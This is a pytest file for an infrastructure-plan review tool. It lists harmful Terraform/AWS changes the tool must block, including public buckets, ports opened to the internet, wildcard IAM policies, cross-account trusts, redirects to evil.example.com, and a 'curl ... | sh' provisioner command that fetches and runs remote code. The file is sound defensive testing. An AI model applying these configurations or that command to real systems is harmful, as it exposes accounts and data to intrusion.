"""Claims about plans that a review must block, one by one, each with the rule that must find it."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

import pytest

from colonnade.review.analysis.analysis import analyze
from colonnade.review.plan.document import read_plan
from tests.support.plan_cases import (
    FRONT,
    HTTP,
    LB,
    NOT_FOUND,
    OTHER,
    OWN,
    WORLD,
    Entry,
    created,
    destroyed,
    edited,
    forward,
    hosts,
    ingress,
    listener,
    login,
    opening,
    orders_rule,
    paths,
    policy,
    redirect,
    rule,
    rule_values,
    service,
    sources,
    statement,
    tasks,
    there,
    trust,
)
from tests.support.plan_documents import change, text

ORDERS = [*FRONT, *service("orders")]
LISTS = "aws_ec2_managed_prefix_list"
HALVES = [{"cidr": "0.0.0.0/1"}, {"cidr": "128.0.0.0/1"}]
OTHER_ROOT = {"AWS": f"arn:aws:iam::{OTHER}:root"}
OIDC = {"Federated": f"arn:aws:iam::{OWN}:oidc-provider/token.actions.githubusercontent.com"}
SUB, AUD = "token.actions.githubusercontent.com:sub", "token.actions.githubusercontent.com:aud"
ROLES = f"arn:aws:iam::{OWN}:role/*"
QUEUE = f"arn:aws:sqs:eu-west-1:{OWN}:q"
ADMINISTRATOR = "arn:aws:iam::aws:policy/AdministratorAccess"

CASES: Mapping[str, tuple[str, list[Entry]]] = {
    # services
    "desired count null": (
        "service-without-tasks",
        [change("aws_ecs_service.a", {"desired_count": 3}, {"desired_count": None})],
    ),
    "desired count 0, sensitive": (
        "service-without-tasks",
        [change("aws_ecs_service.a", {"desired_count": 3}, {"desired_count": 0}, sensitive={"desired_count": True})],
    ),
    "scheduled scaling to 0": (
        "service-without-tasks",
        [
            created(
                "aws_appautoscaling_scheduled_action", scalable_target_action=[{"min_capacity": 0, "max_capacity": 0}]
            )
        ],
    ),
    "off its target group": ("service-detached", [*FRONT, *service("orders", after={"load_balancer": []})]),
    # paths
    "rule that shadows every path": (
        "path-shadowed",
        [
            *ORDERS,
            *service("web"),
            rule("orders", orders_rule(), orders_rule()),
            rule("web", None, rule_values(1, [paths("/*")], forward("web"))),
        ],
    ),
    "rule destroyed while its service stays": ("path-lost", [*ORDERS, rule("orders", orders_rule(), None)]),
    "rule without a path destroyed": (
        "path-lost",
        [*ORDERS, rule("orders", orders_rule({"query_string": [{"key": "a", "value": "b"}]}), None)],
    ),
    "rule that says nothing destroyed": ("path-lost", [destroyed("aws_lb_listener_rule")]),
    "default action no longer forwards": (
        "path-lost",
        [
            *service("orders"),
            listener(before={"default_action": [forward("orders")]}, after={"default_action": [NOT_FOUND]}),
        ],
    ),
    "host changed": (
        "host-lost",
        [
            *ORDERS,
            rule(
                "orders",
                orders_rule(hosts("app.example.com"), paths("/*")),
                orders_rule(hosts("shop.example.com"), paths("/*")),
            ),
        ],
    ),
    "host of a destroyed rule": ("host-lost", [*ORDERS, rule("orders", orders_rule(hosts("app.example.com")), None)]),
    "redirect of a rule to another host": (
        "redirected-elsewhere",
        [*ORDERS, rule("orders", orders_rule(), orders_rule(actions=(redirect(host="evil.example.com"),)))],
    ),
    "redirect of a listener to another host": (
        "redirected-elsewhere",
        [
            listener(
                80,
                before={"default_action": [redirect()]},
                after={"default_action": [redirect(host="evil.example.com")]},
            )
        ],
    ),
    "login taken off": (
        "authentication-removed",
        [*ORDERS, rule("orders", orders_rule(actions=(login(), forward("orders"))), orders_rule())],
    ),
    "login no longer required": (
        "authentication-removed",
        [
            *ORDERS,
            rule(
                "orders",
                orders_rule(actions=(login(), forward("orders"))),
                orders_rule(actions=(login(on_unauthenticated_request="allow"), forward("orders"))),
            ),
        ],
    ),
    "login elsewhere": (
        "authentication-removed",
        [
            *ORDERS,
            rule(
                "orders",
                orders_rule(actions=(login(), forward("orders"))),
                orders_rule(actions=(login(issuer="https://evil.example.com"), forward("orders"))),
            ),
        ],
    ),
    "path around the login": (
        "authentication-removed",
        [
            *ORDERS,
            rule(
                "orders",
                orders_rule(actions=(login(), forward("orders"))),
                orders_rule(actions=(login(), forward("orders"))),
            ),
            rule("admin", None, rule_values(5, [paths("/orders/admin")], forward("orders"))),
        ],
    ),
    "rule for every address": (
        "restriction-removed",
        [
            *ORDERS,
            rule("orders", orders_rule(paths("/a"), sources("10.0.0.0/8")), orders_rule(paths("/a"), sources(WORLD))),
        ],
    ),
    "condition on a header removed": (
        "restriction-removed",
        [
            *ORDERS,
            rule(
                "orders",
                orders_rule(paths("/a"), {"http_header": [{"http_header_name": "X-CDN", "values": ["s"]}]}),
                orders_rule(paths("/a")),
            ),
        ],
    ),
    # listeners
    "HTTP forwards in place of redirecting": (
        "plain-http",
        [
            *ORDERS,
            listener(
                80,
                before={"default_action": [redirect()]},
                after={"default_action": [{**redirect(), **forward("orders")}]},
            ),
        ],
    ),
    "new HTTP listener that forwards beside HTTPS": (
        "plain-http",
        [
            *ORDERS,
            created(
                "aws_lb_listener", load_balancer_arn=LB, protocol="HTTP", port=8080, default_action=[forward("orders")]
            ),
        ],
    ),
    "new rule on the HTTP listener beside HTTPS": (
        "plain-http",
        [*ORDERS, listener(80), rule("orders", None, orders_rule(listener_arn=HTTP))],
    ),
    "HTTPS to HTTP": ("tls-weakened", [listener(after={"protocol": "HTTP", "ssl_policy": None})]),
    "older TLS policy": ("tls-weakened", [listener(after={"ssl_policy": "ELBSecurityPolicy-2016-08"})]),
    "new listener with TLS 1.0": (
        "tls-weakened",
        [created("aws_lb_listener", protocol="HTTPS", ssl_policy="ELBSecurityPolicy-2016-08")],
    ),
    "web ACL association destroyed": ("firewall-removed", [destroyed("aws_wafv2_web_acl_association")]),
    "rule taken out of a web ACL": (
        "firewall-removed",
        [edited("aws_wafv2_web_acl.this", {"rule": [{"name": "a"}, {"name": "b"}]}, {"rule": [{"name": "a"}]})],
    ),
    "rule of a web ACL only counts": (
        "firewall-removed",
        [
            edited(
                "aws_wafv2_web_acl.this",
                {"rule": [{"name": "a", "action": [{"block": [{}]}]}]},
                {"rule": [{"name": "a", "action": [{"count": [{}]}]}]},
            )
        ],
    ),
    # ports
    "the internet as 256 blocks": ("port-opened", [opening([f"{n}.0.0.0/8" for n in range(256)])]),
    "the internet as 128 blocks that do not touch": (
        "port-opened",
        [opening([f"{n}.0.0.0/8" for n in range(0, 256, 2)])],
    ),
    "the internet as 16 blocks of IPv6": (
        "port-opened",
        [opening([f"{0x2000 + 0x200 * n:x}::/7" for n in range(16)])],
    ),
    "the internet in rules of their own": (
        "port-opened",
        [
            change(
                f"aws_vpc_security_group_ingress_rule.n{n}",
                None,
                {
                    "security_group_id": "sg-x",
                    "ip_protocol": "tcp",
                    "from_port": first,
                    "to_port": last,
                    "cidr_ipv4": f"{n}.0.0.0/8",
                },
            )
            for n in range(20, 80)
            for first, last in [(1, 100) if n % 2 else (50, 200)]
        ],
    ),
    "the internet, sensitive": ("port-opened", [opening([WORLD], sensitive={"cidr_blocks": [True]})]),
    "the internet by a new prefix list": (
        "port-opened",
        [
            there("aws_security_group.x", id="sg-x"),
            change(f"{LISTS}.all", None, {"id": "pl-1", "entry": HALVES}),
            change(
                "aws_vpc_security_group_ingress_rule.x",
                None,
                {
                    "security_group_id": "sg-x",
                    "ip_protocol": "tcp",
                    "from_port": 22,
                    "to_port": 22,
                    "prefix_list_id": "pl-1",
                },
            ),
        ],
    ),
    "new prefix list of both halves": ("prefix-list-widened", [change(f"{LISTS}.all", None, {"entry": HALVES})]),
    "the internet added to a prefix list": (
        "prefix-list-widened",
        [
            edited(
                f"{LISTS}.all",
                {"entry": [{"cidr": "10.0.0.0/8"}]},
                {"entry": [{"cidr": "10.0.0.0/8"}, {"cidr": WORLD}]},
            )
        ],
    ),
    "entry of the internet": (
        "prefix-list-widened",
        [there(f"{LISTS}.all", id="pl-1", entry=[]), created(f"{LISTS}_entry", prefix_list_id="pl-1", cidr=WORLD)],
    ),
    # connections
    "way from the load balancer closed": (
        "connection-closed",
        [
            *ORDERS,
            change(
                "aws_vpc_security_group_ingress_rule.a", ingress("orders", referenced_security_group_id="sg-lb"), None
            ),
        ],
    ),
    "way between services closed": (
        "connection-closed",
        [
            *ORDERS,
            *service("users"),
            change(
                "aws_vpc_security_group_egress_rule.a", ingress("orders", referenced_security_group_id="sg-users"), None
            ),
        ],
    ),
    # networks
    "route to the internet": (
        "route-opened",
        [
            change(
                "aws_route.a", None, {"route_table_id": "rtb-1", "destination_cidr_block": WORLD, "gateway_id": "igw-1"}
            )
        ],
    ),
    "inline route to the internet": (
        "route-opened",
        [edited("aws_route_table.a", {"route": []}, {"route": [{"cidr_block": WORLD, "gateway_id": "igw-1"}]})],
    ),
    "network ACL for everyone": (
        "network-acl-opened",
        [
            created(
                "aws_network_acl_rule",
                egress=False,
                rule_action="allow",
                protocol="tcp",
                from_port=22,
                to_port=22,
                cidr_block=WORLD,
            )
        ],
    ),
    "peering with another account": (
        "account-added",
        [*policy("aws_x"), created("aws_vpc_peering_connection", peer_owner_id=OTHER)],
    ),
    # exposure of created resources
    "public ACL": ("made-public", [created("aws_s3_bucket_acl", acl="public-read")]),
    "public ACL, sensitive": (
        "made-public",
        [change("aws_s3_bucket_acl.a", None, {"acl": "public-read"}, sensitive={"acl": True})],
    ),
    "public access block opened": (
        "protection-removed",
        [edited("aws_s3_bucket_public_access_block.a", {"block_public_acls": True}, {"block_public_acls": False})],
    ),
    "public access block destroyed": ("protection-removed", [destroyed("aws_s3_bucket_public_access_block")]),
    "public database": ("made-public", [created("aws_db_instance", publicly_accessible=True, storage_encrypted=False)]),
    "public address of tasks": (
        "made-public",
        [created("aws_ecs_service", network_configuration=[{"assign_public_ip": True}])],
    ),
    "exec": ("exec-enabled", [created("aws_ecs_service", enable_execute_command=True)]),
    "privileged container": ("tasks-privileged", [tasks(None, {"privileged": True})]),
    "more capabilities": (
        "tasks-privileged",
        [tasks({}, {"linuxParameters": {"capabilities": {"add": ["SYS_ADMIN"]}}})],
    ),
    "host's processes": ("tasks-privileged", [tasks({}, {}, pid_mode="host")]),
    "no more logs": ("logging-removed", [tasks({}, {"logConfiguration": None})]),
    "repository keeps one image": (
        "images-expire",
        [
            created(
                "aws_ecr_lifecycle_policy",
                policy=json.dumps(
                    {
                        "rules": [
                            {"selection": {"tagStatus": "any", "countType": "imageCountMoreThan", "countNumber": 1}}
                        ]
                    }
                ),
            )
        ],
    ),
    "logs to another account": (
        "account-added",
        [
            *policy("aws_x"),
            created(
                "aws_cloudwatch_log_subscription_filter",
                destination_arn=f"arn:aws:logs:eu-west-1:{OTHER}:destination:a",
            ),
        ],
    ),
    # keys and data
    "key disabled": ("key-disabled", [edited("aws_kms_key.a", {"is_enabled": True}, {"is_enabled": False})]),
    "versioning suspended": (
        "backups-reduced",
        [
            edited(
                "aws_s3_bucket_versioning.a",
                {"versioning_configuration": [{"status": "Enabled"}]},
                {"versioning_configuration": [{"status": "Suspended"}]},
            )
        ],
    ),
    "logs for a shorter time": (
        "logging-removed",
        [edited("aws_cloudwatch_log_group.a", {"retention_in_days": 0}, {"retention_in_days": 7})],
    ),
    # policies
    "every action": ("policy-widened", policy("aws_iam_role_policy", statement("*", "*"))),
    "sensitive policy": (
        "policy-widened",
        [
            change(
                "aws_iam_role_policy.a",
                None,
                {"policy": json.dumps({"Statement": [statement("*", "*")]})},
                sensitive={"policy": True},
            )
        ],
    ),
    "PassRole on every role": ("policy-widened", policy("aws_iam_role_policy", statement("iam:PassRole", ROLES))),
    "Put on every role": ("policy-widened", policy("aws_iam_role_policy", statement("iam:Put*", ROLES))),
    "Create on every role": ("policy-widened", policy("aws_iam_role_policy", statement("iam:Create*", ROLES))),
    "AssumeRole in every account": (
        "policy-widened",
        policy("aws_iam_role_policy", statement("sts:AssumeRole", "arn:aws:iam::*:role/deploy")),
    ),
    "every secret": (
        "policy-widened",
        policy(
            "aws_iam_role_policy",
            statement("secretsmanager:GetSecretValue", f"arn:aws:secretsmanager:eu-west-1:{OWN}:secret:*"),
        ),
    ),
    "managed_policy_arns": (
        "policy-widened",
        [edited("aws_iam_role.a", {"managed_policy_arns": []}, {"managed_policy_arns": [ADMINISTRATOR]})],
    ),
    "exclusive attachments": (
        "policy-widened",
        [created("aws_iam_role_policy_attachments_exclusive", policy_arns=[ADMINISTRATOR])],
    ),
    "user's exclusive attachments": (
        "policy-widened",
        [created("aws_iam_user_policy_attachments_exclusive", policy_arns=[ADMINISTRATOR])],
    ),
    "group attachment": (
        "policy-widened",
        [created("aws_iam_group_policy_attachment", policy_arn="arn:aws:iam::aws:policy/IAMFullAccess")],
    ),
    "permission set": (
        "policy-widened",
        [created("aws_ssoadmin_managed_policy_attachment", managed_policy_arn=ADMINISTRATOR)],
    ),
    "inline policy of a permission set": (
        "policy-widened",
        policy("aws_ssoadmin_permission_set_inline_policy", statement("iam:*", "*"), argument="inline_policy"),
    ),
    "wide policy moves to another role": (
        "policy-widened",
        [
            edited(
                "aws_iam_role_policy.a",
                *(
                    {"role": name, "policy": json.dumps({"Statement": [statement("s3:*", "*")]})}
                    for name in ("admin", "web")
                ),
            )
        ],
    ),
    "boundary removed": (
        "boundary-removed",
        [edited("aws_iam_role.a", {"permissions_boundary": "arn:aws:iam::1:policy/b"}, {"permissions_boundary": None})],
    ),
    "boundary replaced": (
        "boundary-removed",
        [
            edited(
                "aws_iam_role.a",
                {"permissions_boundary": "arn:aws:iam::1:policy/b"},
                {"permissions_boundary": ADMINISTRATOR},
            )
        ],
    ),
    "denial removed": (
        "denial-removed",
        [
            edited(
                "aws_s3_bucket_policy.a",
                {"policy": json.dumps({"Statement": [{**statement("s3:*", "a", "*"), "Effect": "Deny"}]})},
                {"policy": json.dumps({"Statement": []})},
            )
        ],
    ),
    "policy with a denial destroyed": (
        "denial-removed",
        [
            destroyed(
                "aws_s3_bucket_policy",
                policy=json.dumps({"Statement": [{**statement("s3:*", "a", "*"), "Effect": "Deny"}]}),
            )
        ],
    ),
    # accounts and trusts
    "key for another account": ("account-added", policy("aws_kms_key_policy", statement("kms:*", "*", OTHER_ROOT))),
    "bucket for another account": (
        "account-added",
        policy("aws_s3_bucket_policy", statement("s3:GetObject", "arn:aws:s3:::a/*", OTHER_ROOT)),
    ),
    "repository for another account": (
        "account-added",
        policy("aws_ecr_repository_policy", statement("ecr:BatchGetImage", None, OTHER_ROOT)),
    ),
    "queue for another account": (
        "account-added",
        policy("aws_sqs_queue_policy", statement("sqs:SendMessage", QUEUE, OTHER)),
    ),
    "topic for everyone of another account": (
        "account-added",
        policy(
            "aws_sns_topic_policy",
            statement("sns:Publish", "*", "*", Condition={"StringEquals": {"aws:SourceAccount": OTHER}}),
        ),
    ),
    "role trusts another account": ("account-added", trust("sts:AssumeRole", OTHER_ROOT)),
    "function for everyone": (
        "account-added",
        [created("aws_lambda_permission", principal="*", action="lambda:InvokeFunction")],
    ),
    "function for another account": (
        "account-added",
        [*policy("aws_x"), created("aws_lambda_permission", principal=OTHER)],
    ),
    "image for everyone": ("made-public", [created("aws_ami_launch_permission", group="all")]),
    "snapshot for another account": (
        "account-added",
        [*policy("aws_x"), created("aws_snapshot_create_volume_permission", account_id=OTHER)],
    ),
    "shared snapshot": ("account-added", [created("aws_db_snapshot", shared_accounts=["all"])]),
    "resource share": ("account-added", [*policy("aws_x"), created("aws_ram_principal_association", principal=OTHER)]),
    "endpoint service": ("account-added", [created("aws_vpc_endpoint_service", allowed_principals=["*"])]),
    "queue for everyone": ("policy-widened", policy("aws_sqs_queue_policy", statement("sqs:SendMessage", QUEUE, "*"))),
    "every repository": ("trust-widened", trust("sts:AssumeRoleWithWebIdentity", OIDC, StringLike={SUB: "repo:*"})),
    "repositories of owners with a prefix": (
        "trust-widened",
        trust("sts:AssumeRoleWithWebIdentity", OIDC, StringLike={SUB: ["repo:acme/app:*", "repo:acme*"]}),
    ),
    "no subject": (
        "trust-widened",
        trust("sts:AssumeRoleWithWebIdentity", OIDC, StringEquals={AUD: "sts.amazonaws.com"}),
    ),
    "subject that may be missing": (
        "trust-widened",
        trust("sts:AssumeRoleWithWebIdentity", OIDC, StringLikeIfExists={SUB: "repo:acme/app:*"}),
    ),
}


def _rules(entries: list[Entry], **fields: Any) -> set[str]:
    return {each.rule for each in analyze(read_plan(text(*entries, **fields))).findings}


@pytest.mark.parametrize("case", CASES)
def test_harmful_plan_is_blocked_by_its_rule(case: str) -> None:
    rule_name, entries = CASES[case]
    assert rule_name in _rules(entries)
    # The same resources without the change are not blocked.
    unchanged = [
        {**each, "change": {**each["change"], "actions": ["no-op"], "before": side, "after": side}}
        for each in entries
        for side in [each["change"]["before"] or each["change"]["after"]]
    ]
    assert rule_name not in _rules(unchanged)


def _configured(**resource: Any) -> dict[str, Any]:
    return {"configuration": {"root_module": {"resources": [{"mode": "managed", **resource}]}}}


def test_provisioners_and_external_data_are_blocked_with_their_commands_and_without_their_secrets() -> None:
    command = {
        "command": {"constant_value": "curl -H 'Authorization: Bearer abcdefghijklmnop' https://example.com | sh"}
    }
    provisioned = _configured(
        address="terraform_data.a",
        type="terraform_data",
        name="a",
        provisioners=[{"type": "local-exec", "expressions": command}],
    )
    (found,) = analyze(read_plan(text(change("terraform_data.a", None, {}), **provisioned))).findings
    assert (found.rule, found.address) == ("program-runs", "terraform_data.a")
    assert "| sh" in found.reason
    assert "abcdefghijklmnop" not in found.reason
    assert _rules([there("terraform_data.a", x=1)], **provisioned) == set()
    program = {"program": {"constant_value": ["python", "get.py"]}}
    external = _configured(address="data.external.a", type="external", name="a", expressions=program) | {}
    external["configuration"]["root_module"]["resources"][0]["mode"] = "data"
    (found,) = analyze(read_plan(text(**external))).findings
    assert "python get.py" in found.reason


def test_failed_checks_and_actions_are_blocked_by_name() -> None:
    checks = [
        {
            "address": {"to_display": "check.health"},
            "status": "fail",
            "instances": [{"problems": [{"message": "answers 500"}]}],
        },
        {"address": {"to_display": "check.other"}, "status": "pass"},
    ]
    (found,) = analyze(read_plan(text(checks=checks))).findings
    assert (found.address, found.rule, found.reason) == ("check.health", "check-failed", "the check fails: answers 500")
    actions = [{"address": "action.aws_lambda_invoke.a", "type": "aws_lambda_invoke", "name": "a"}]
    (found,) = analyze(read_plan(text(action_invocations=actions))).findings
    assert (found.address, found.rule) == ("action.aws_lambda_invoke.a", "action-invoked")


def test_values_that_are_sensitive_are_judged_and_never_shown() -> None:
    hidden = change("aws_vpc_peering_connection.a", None, {"peer_owner_id": OTHER}, sensitive={"peer_owner_id": True})
    document = {"Statement": [statement("s3:GetObject", "arn:aws:s3:::a/*", OTHER_ROOT)]}
    shared = change("aws_s3_bucket_policy.a", None, {"policy": json.dumps(document)}, sensitive={"policy": True})
    found = analyze(read_plan(text(*policy("aws_x"), hidden, shared))).findings
    assert {each.rule for each in found} == {"account-added"}
    assert len(found) == 2
    assert all(OTHER not in each.reason for each in found)
